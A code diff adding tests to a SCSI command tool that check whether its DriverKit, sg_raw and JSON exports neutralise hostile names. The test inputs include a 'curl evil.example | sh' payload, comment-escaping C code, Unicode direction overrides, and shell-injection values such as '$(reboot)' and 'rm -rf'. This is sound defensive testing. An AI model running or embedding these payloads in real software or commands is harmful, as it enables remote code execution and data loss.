@@ -6,6 +6,8 @@ import {
   transferLengthNote,
 } from '../../shared/export/formats';
 import { parsePresetsJson, presetIdFor } from '../../shared/presets-file';
+import type { VendorSet } from '../../shared/vendor-sets/model';
+import { findVendorSet } from '../../shared/vendor-sets/registry';
 
 const inquiry = {
   cdb: Uint8Array.from([0x12, 0, 0, 0, 0x24, 0]),
@@ -136,6 +138,68 @@ describe('the DriverKit length comment', () => {
     expect(
       transferLengthNote({ cdb: new Uint8Array(6), direction: 'none', transferLength: 0, lun: 0 }),
     ).toBe('no data phase, as the CDB says');
+  });
+});
+
+describe('text from a vendor set or a caller in the exports', () => {
+  // A set built in memory: the file format refuses these names (format.test.ts), the exports
+  // must not depend on that.
+  const example = findVendorSet('example') as VendorSet;
+  const hostile: VendorSet = {
+    ...example,
+    commands: example.commands.map((c) =>
+      c.spec.opcode !== 0xc4
+        ? c
+        : {
+            ...c,
+            spec: {
+              ...c.spec,
+              name: 'ACME READ LOG\nIOLog("pwned"); system("curl evil.example | sh"); /*',
+              fields: c.spec.fields.map((f) =>
+                f.key === 'allocationLength'
+                  ? { ...f, name: 'ALLOCATION LENGTH */\r\nkr = KERN_SUCCESS; //' }
+                  : f,
+              ),
+            },
+          },
+    ),
+  };
+  const readLog = {
+    cdb: Uint8Array.from([0xc4, 0, 0, 0, 0, 0, 0, 0, 16, 0]),
+    direction: 'in' as const,
+    transferLength: 16,
+    lun: 0,
+  };
+
+  it('DriverKit: a line break or a bidirectional override in a name stays inside its comment', () => {
+    const lines = driverKitSnippet(readLog, [hostile]).split('\n');
+    expect(lines).toHaveLength(driverKitSnippet(readLog, [example]).split('\n').length);
+    expect(lines[0]).toBe(
+      '// ACME READ LOG.IOLog("pwned"); system("curl evil.example | sh"); /*: c4 00 00 00 00 00 00 00 10 00 (10-byte CDB, 16 bytes in)',
+    );
+    expect(lines).toContain(
+      "command.fRequestedByteCountOfTransfer = 16; // equal to the CDB's ALLOCATION LENGTH */..kr = KERN_SUCCESS; // (16 bytes)",
+    );
+    const named = driverKitSnippet({ ...inquiry, name: 'INQUIRY \u202e)"dwp"(goLOI \u2066x' });
+    expect(named.split('\n')[0]).toBe(
+      '// INQUIRY .)"dwp"(goLOI .x: 12 00 00 00 24 00 (6-byte CDB, 36 bytes in)',
+    );
+  });
+
+  it('sg_raw: a path the shell would split or expand is one quoted word', () => {
+    expect(sgRawCommand(inquiry, "/dev/disk/by-id/usb-ACME 'X'$(reboot)")).toBe(
+      "sg_raw -r 36 '/dev/disk/by-id/usb-ACME '\\''X'\\''$(reboot)' 12 00 00 00 24 00",
+    );
+    expect(sgRawCommand({ ...inquiry, direction: 'out' }, '/dev/sg1', 'data; rm -rf ~.bin')).toBe(
+      "sg_raw -s 36 -i 'data; rm -rf ~.bin' /dev/sg1 12 00 00 00 24 00",
+    );
+  });
+
+  it('JSON preset: a name with control characters is escaped JSON and reads back as it was', () => {
+    const name = 'ACME \u001b[31mRED\u001b[0m\n';
+    const json = jsonPreset({ ...inquiry, name });
+    expect(json).not.toContain('\u001b');
+    expect(JSON.parse(json).presets[0].name).toBe(name);
   });
 });
 
